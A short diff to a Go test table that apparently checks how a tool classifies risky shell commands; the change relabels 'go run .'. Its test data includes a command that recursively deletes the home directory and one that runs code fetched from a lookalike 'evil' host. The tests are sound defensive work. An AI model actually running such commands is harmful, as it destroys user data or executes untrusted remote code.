@@ -116,7 +116,7 @@ func TestOtherPackages(t *testing.T) {
 		{`cargo watch -s 'rm -rf ~'`, `delete /home/u wide`},
 		{`go install example.com/x@latest`, `install example.com/x`},
 		{`go get example.com/x`, `install example.com/x`},
-		{`go run .`, ``},
+		{`go run .`, `run .`},
 		{`go run example.com/x@latest`, `run-remote example.com/x@latest`},
 		{`go run golang.org/x/tools/cmd/deadcode@latest ./...`, `install golang.org/x/tools/cmd/deadcode`},
 		{`go run github.com.evil.example/x@latest`, `run-remote github.com.evil.example/x@latest`},
